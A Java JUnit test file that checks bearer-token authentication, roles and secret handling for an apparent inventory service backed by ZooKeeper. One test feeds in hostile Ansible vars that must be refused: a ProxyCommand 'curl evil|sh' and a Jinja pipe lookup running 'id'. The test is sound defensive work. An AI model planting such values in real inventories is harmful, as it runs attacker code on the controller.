package io.kook.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;

import io.kook.support.Await;
import io.kook.support.Http;
import io.kook.support.Replica;
import io.kook.support.SharedZooKeeper;
import org.apache.curator.framework.CuratorFramework;
import org.apache.curator.framework.CuratorFrameworkFactory;
import org.apache.curator.retry.RetryOneTime;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/** Bearer tokens and roles over the HTTP contract, against real replicas on a real ZooKeeper. */
@ExtendWith(OutputCaptureExtension.class)
class SecurityTests {

    private static final String ROOT = SharedZooKeeper.uniqueRoot("security");
    private static Replica kook;
    private static Http admin;

    @BeforeAll
    static void start() {
        kook = Replica.start(SharedZooKeeper.connectString(), ROOT);
        admin = kook.http();
    }

    @AfterAll
    static void stop() {
        kook.close();
    }

    private static String createToken(Http http, String name, String role, String extra) {
        Http.Response created = http.post("/tokens", "{\"name\":\"" + name + "\",\"role\":\"" + role + "\"" + extra + "}");
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        assertThat(created.header("Location")).isEqualTo("/tokens/" + name);
        return created.json().get("secret").asString();
    }

    private static void assertProblem(Http.Response response, int status, String slug) {
        assertThat(response.status()).as(response.toString()).isEqualTo(status);
        assertThat(response.contentType()).startsWith("application/problem+json");
        assertThat(response.json().get("type").asString()).isEqualTo("https://kook.dev/problems/" + slug);
    }

    @Test
    void withoutAValidTokenEverySecuredPathAnswers401WithABearerChallengeWhetherItExistsOrNot() {
        for (Http caller : List.of(admin.as(null), admin.as("not-a-token"))) {
            for (String path : List.of("/hosts", "/hosts/none", "/no/such/path", "/tokens", "/actuator/prometheus",
                    "/ansible/inventory", "/events", "/actuator/env")) {
                Http.Response response = caller.get(path);
                assertProblem(response, 401, "unauthorized");
                assertThat(response.header("WWW-Authenticate")).isEqualTo("Bearer realm=\"kook\"");
            }
            assertProblem(caller.put("/hosts/x", "{}"), 401, "unauthorized");
            assertProblem(caller.delete("/services/web/instances/h:1"), 401, "unauthorized");
        }
        assertThat(admin.get("/hosts/x").status()).isEqualTo(404);
    }

    @Test
    void probesApiDocsSwaggerUiAndTheInventoryScriptAreOpen() {
        Http anonymous = admin.as(null);
        Http.Response probe = anonymous.get("/actuator/health/readiness");
        assertThat(probe.status()).isEqualTo(200);
        assertThat(probe.body()).as("the inventory's counts are for token holders").doesNotContain("mirror");
        assertThat(admin.get("/actuator/health/readiness").body()).contains("\"mirror\"");
        assertThat(anonymous.get("/actuator/health/liveness").status()).isEqualTo(200);
        assertThat(anonymous.get("/v3/api-docs").status()).isEqualTo(200);
        assertThat(anonymous.get("/swagger-ui.html").status()).isIn(200, 302);
        assertThat(anonymous.get("/swagger-ui/index.html").status()).isEqualTo(200);
        assertThat(anonymous.get("/ansible/kook-inventory.py").status()).isEqualTo(200);
        assertThat(anonymous.get("/ansible/kook-kook.tar.gz").status()).as("the Ansible collection").isEqualTo(200);
    }

    @Test
    void onlyHealthAndPrometheusAreExposedAmongActuatorEndpoints() {
        assertThat(admin.get("/actuator/prometheus").status()).isEqualTo(200);
        for (String endpoint : List.of("/actuator/env", "/actuator/metrics", "/actuator/info", "/actuator/beans",
                "/actuator/heapdump")) {
            assertThat(admin.get(endpoint).status()).as(endpoint).isEqualTo(404);
        }
    }

    /** Each role against each endpoint class: the roles a call needs, and the calls each role is refused. */
    @Test
    void eachRoleMayDoExactlyWhatItsRoleAndTheRolesBelowItGrant() {
        Map<String, Http> callers = Map.of(
                "read", admin.as(createToken(admin, "role-read", "read", "")),
                "register", admin.as(createToken(admin, "role-register", "register", "")),
                "write", admin.as(createToken(admin, "role-write", "write", "")),
                "admin", admin);
        List<String> roles = List.of("read", "register", "write", "admin");
        record Call(String needs, String method, String path, String contentType, String body) {
        }
        List<Call> calls = List.of(
                new Call("read", "GET", "/hosts", null, null),
                new Call("read", "GET", "/groups", null, null),
                new Call("read", "GET", "/ansible/inventory", null, null),
                new Call("read", "GET", "/services", null, null),
                new Call("read", "GET", "/hooks", null, null),
                new Call("read", "GET", "/actuator/prometheus", null, null),
                new Call("read", "GET", "/tokens/self", null, null),
                new Call("register", "PUT", "/services/web/instances/h1:80?ttl=60s", "application/json", "{}"),
                new Call("register", "DELETE", "/services/web/instances/h1:80", null, null),
                new Call("write", "PUT", "/hosts/rbac-%s", "application/json", "{}"),
                new Call("write", "PATCH", "/hosts/rbac-%s", "application/merge-patch+json", "{}"),
                new Call("write", "DELETE", "/hosts/rbac-%s", null, null),
                new Call("write", "POST", "/groups", "application/json", "{\"name\":\"rbac-g-%s\"}"),
                new Call("write", "PUT", "/groups/rbac-g-%s/hosts/rbac-%s", null, null),
                new Call("write", "POST", "/ansible/inventory?mode=merge", "text/plain", "[merged_%s]\n"),
                new Call("admin", "POST", "/ansible/inventory?mode=replace", "text/plain", "[replaced]\n"),
                new Call("admin", "GET", "/tokens", null, null),
                new Call("admin", "POST", "/tokens", "application/json", "{\"name\":\"made-by-%s\",\"role\":\"read\"}"),
                new Call("admin", "DELETE", "/tokens/made-by-%s", null, null));
        for (Call call : calls) {
            for (String role : roles) {
                String path = call.path().replace("%s", role);
                String body = call.body() == null ? null : call.body().replace("%s", role);
                Http.Response response = callers.get(role).send(call.method(), path, call.contentType(), body);
                boolean allowed = roles.indexOf(role) >= roles.indexOf(call.needs());
                if (allowed) {
                    assertThat(response.status()).as(role + " " + call + ": " + response).isNotIn(401, 403);
                } else {
                    assertProblem(response, 403, "forbidden");
                    assertThat(response.json().get("detail").asString()).contains("role-" + role);
                }
            }
        }
    }

    @Test
    void aTokenIsShownOnceListedWithoutItsSecretAndKnowsItself() {
        String secret = createToken(admin, "ci-reader", "read",
                ",\"description\":\"CI jobs\",\"expiresAt\":\"2099-01-01T00:00:00Z\"");
        assertThat(secret).hasSizeGreaterThanOrEqualTo(22);
        Http.Response self = admin.as(secret).get("/tokens/self");
        assertThat(self.status()).isEqualTo(200);
        assertThat(self.json().get("name").asString()).isEqualTo("ci-reader");
        assertThat(self.json().get("createdBy").asString()).isEqualTo("bootstrap");
        assertThat(self.json().get("expiresAt").asString()).isEqualTo("2099-01-01T00:00:00Z");
        assertThat(self.body()).doesNotContain(secret).doesNotContain("secret");
        Http.Response list = admin.get("/tokens");
        assertThat(list.body()).doesNotContain(secret).doesNotContain("secret").contains("\"ci-reader\"");
        List<String> names = new ArrayList<>();
        list.json().forEach(token -> names.add(token.get("name").asString()));
        assertThat(names).isSorted();
        assertProblem(admin.post("/tokens", "{\"name\":\"ci-reader\",\"role\":\"read\"}"), 409, "already-exists");
        assertProblem(admin.post("/tokens", "{\"name\":\"bad\",\"role\":\"root\"}"), 400, "invalid");
        assertProblem(admin.post("/tokens", "{\"name\":\"bad\",\"role\":\"read\",\"expiresAt\":\"tomorrow\"}"), 400, "invalid");
        assertProblem(admin.get("/tokens/nobody"), 404, "not-found");
    }

    @Test
    void anHttpClientMayNotReplaceOrRemoveAnAgentsRegistrationUnlessItIsAnAdmin() throws Exception {
        Http register = admin.as(createToken(admin, "registrar", "register", ""));
        io.kook.store.ZkLayout layout = new io.kook.store.ZkLayout(ROOT);
        try (CuratorFramework agent = CuratorFrameworkFactory.newClient(SharedZooKeeper.connectString(), new RetryOneTime(100))) {
            agent.start();
            agent.create().creatingParentContainersIfNeeded().withMode(org.apache.zookeeper.CreateMode.EPHEMERAL)
                    .forPath(layout.registration("db", "db1:5432"), io.kook.store.RegistrationCodec.encode(
                            tools.jackson.databind.node.JsonNodeFactory.instance.objectNode(), null, "agent"));
            Await.until(Duration.ofSeconds(10), "the agent's registration to be served",
                    () -> admin.get("/services/db").body().contains("db1"));
            assertProblem(register.put("/services/db/instances/db1:5432?ttl=60s", "{}"), 403, "forbidden");
            assertProblem(register.delete("/services/db/instances/db1:5432"), 403, "forbidden");
            assertThat(register.put("/services/db/instances/db2:5432?ttl=60s", "{}").status()).isEqualTo(201);
            assertThat(agent.checkExists().forPath(layout.registration("db", "db1:5432"))).isNotNull();
            assertThat(admin.delete("/services/db/instances/db1:5432").status()).isIn(200, 204);
            assertThat(agent.checkExists().forPath(layout.registration("db", "db1:5432"))).isNull();
        }
    }

    @Test
    void varsThatRunCommandsOnTheControllerNeedAPrivilegedTokenOnEveryPathIn() {
        Http writer = admin.as(createToken(admin, "plain-writer", "write", ""));
        Http trusted = admin.as(createToken(admin, "trusted-writer", "write", ",\"privilegedVars\":true"));
        Map<String, Http.Response> refused = new java.util.LinkedHashMap<>();
        refused.put("ansible_ssh_common_args", writer.put("/hosts/pv1",
                "{\"vars\":{\"ansible_ssh_common_args\":\"-o ProxyCommand='curl evil|sh'\"}}"));
        refused.put("motd", writer.put("/hosts/pv1", "{\"vars\":{\"motd\":\"{{ lookup('pipe', 'id') }}\"}}"));
        refused.put("nested", writer.post("/groups", "{\"name\":\"pvg\",\"vars\":{\"nested\":{\"a\":[\"{% raw %}\"]}}}"));
        refused.put("ansible_python_interpreter", writer.send("POST", "/ansible/inventory?mode=merge", "text/plain",
                "[pv]\npv2 ok=1\npv3 ansible_python_interpreter=/tmp/x\n"));
        refused.forEach((var, response) -> {
            assertProblem(response, 403, "forbidden");
            assertThat(response.json().get("detail").asString()).contains(var).contains("plain-writer");
        });
        assertThat(admin.get("/hosts/pv1").status()).isEqualTo(404);
        assertThat(admin.get("/hosts/pv2").status()).as("the whole import is refused").isEqualTo(404);
        assertThat(admin.get("/groups/pvg").status()).isEqualTo(404);

        assertThat(trusted.put("/hosts/pv1", "{\"vars\":{\"ansible_connection\":\"local\"}}").status()).isEqualTo(201);
        Http.Response patched = writer.patch("/hosts/pv1", "{\"vars\":{\"ansible_port\":2222}}");
        assertThat(patched.status()).as("a var left as it was is not judged").isEqualTo(200);
        assertProblem(writer.patch("/hosts/pv1", "{\"vars\":{\"ansible_connection\":\"ssh\"}}"), 403, "forbidden");
        assertThat(admin.get("/hosts/pv1").json().get("vars").get("ansible_connection").asString()).isEqualTo("local");
    }

    @Test
    void anExpiredTokenIsRefused() {
        String secret = createToken(admin, "expired", "admin", ",\"expiresAt\":\"2020-01-01T00:00:00Z\"");
        assertProblem(admin.as(secret).get("/hosts"), 401, "unauthorized");
    }

    @Test
    void aDeletedTokenIsRefusedOnEveryReplica() {
        try (Replica other = Replica.start(SharedZooKeeper.connectString(), ROOT)) {
            String secret = createToken(admin, "revoked", "write", "");
            Await.until(Duration.ofSeconds(10), "the token to reach the other replica",
                    () -> other.http().as(secret).get("/hosts").status() == 200);
            assertThat(admin.delete("/tokens/revoked").status()).isEqualTo(204);
            assertProblem(admin.as(secret).get("/hosts"), 401, "unauthorized");
            Await.until(Duration.ofSeconds(10), "the other replica to refuse the revoked token",
                    () -> other.http().as(secret).get("/hosts").status() == 401);
        }
    }

    /** The race itself, repeated: each round two token stores (own clients) start at once on an empty root. */
    @Test
    void replicasStartingTogetherOnAnEmptyTreeCreateExactlyOneBootstrapTokenWrittenToAPrivateFile(@TempDir Path dir,
                                                                                                   CapturedOutput output)
            throws Exception {
        for (int round = 0; round < 5; round++) {
            String root = SharedZooKeeper.uniqueRoot("bootstrap-race");
            java.util.concurrent.CyclicBarrier together = new java.util.concurrent.CyclicBarrier(2);
            List<CuratorFramework> clients = new ArrayList<>();
            List<TokenStore> stores = new ArrayList<>();
            List<Path> files = new ArrayList<>();
            List<CompletableFuture<Void>> starting = new ArrayList<>();
            for (int i = 0; i < 2; i++) {
                CuratorFramework client = CuratorFrameworkFactory.newClient(SharedZooKeeper.connectString(),
                        new RetryOneTime(100));
                client.start();
                clients.add(client);
                Path file = dir.resolve("round-" + round + "-replica-" + i).resolve("bootstrap-token");
                files.add(file);
                TokenStore store = new TokenStore(client, new io.kook.store.ZkLayout(root),
                        new io.kook.KookProperties.Security(true, null, file, List.of()));
                stores.add(store);
                starting.add(CompletableFuture.runAsync(() -> {
                    try {
                        together.await();
                    } catch (Exception e) {
                        throw new IllegalStateException(e);
                    }
                    store.start();
                }));
            }
            try {
                for (CompletableFuture<Void> start : starting) {
                    start.get();
                }
                assertThat(clients.get(0).getChildren().forPath(root + "/tokens")).containsExactly("bootstrap");
                List<Path> written = files.stream().filter(Files::exists).toList();
                assertThat(written).hasSize(1);
                assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(written.get(0))))
                        .isEqualTo("rw-------");
                String secret = Files.readString(written.get(0)).strip();
                for (TokenStore store : stores) {
                    Await.until(Duration.ofSeconds(10), "each store to know the bootstrap token",
                            () -> store.authenticate(secret) != null);
                    assertThat(store.authenticate(secret).role()).isEqualTo(Role.ADMIN);
                }
                assertThat(output.getAll()).contains(written.get(0).toAbsolutePath().toString()).doesNotContain(secret);
            } finally {
                stores.forEach(TokenStore::stop);
                clients.forEach(CuratorFramework::close);
            }
        }
    }

    @Test
    void noSecretIsStoredInZooKeeperOrWrittenToTheLog(CapturedOutput output) throws Exception {
        String secret = createToken(admin, "needle", "write", "");
        assertThat(admin.as(secret).put("/hosts/needle-host", "{\"vars\":{\"a\":1}}").status()).isEqualTo(201);
        assertThat(admin.as(secret + "x").get("/hosts").status()).isEqualTo(401);
        try (CuratorFramework zk = CuratorFrameworkFactory.newClient(SharedZooKeeper.connectString(), new RetryOneTime(100))) {
            zk.start();
            StringBuilder tree = new StringBuilder();
            dump(zk, ROOT, tree);
            assertThat(tree).contains("needle").doesNotContain(secret).doesNotContain(Http.ADMIN_SECRET);
        }
        assertThat(output.getAll()).doesNotContain(secret).doesNotContain(Http.ADMIN_SECRET);
    }

    private static void dump(CuratorFramework zk, String path, StringBuilder into) throws Exception {
        into.append(path).append('\n');
        byte[] data = zk.getData().forPath(path);
        if (data != null) {
            into.append(new String(data, java.nio.charset.StandardCharsets.UTF_8)).append('\n');
        }
        for (String child : zk.getChildren().forPath(path)) {
            dump(zk, path.equals("/") ? "/" + child : path + "/" + child, into);
        }
    }

    @Test
    void withSecurityOffEveryCallerIsAnAnonymousAdminAndTheLogSaysSoLoudly(CapturedOutput output) {
        try (Replica open = Replica.start(SharedZooKeeper.connectString(), SharedZooKeeper.uniqueRoot("open"),
                "kook.security.enabled=false")) {
            Http anonymous = open.http().as(null);
            assertThat(anonymous.put("/hosts/anyone", "{}").status()).isEqualTo(201);
            assertThat(anonymous.send("POST", "/ansible/inventory?mode=replace", "text/plain", "[g]\nh\n").status()).isEqualTo(200);
            assertThat(output.getAll()).contains("kook.security.enabled=false: EVERY CALLER IS AN ANONYMOUS ADMIN");
        }
    }
}
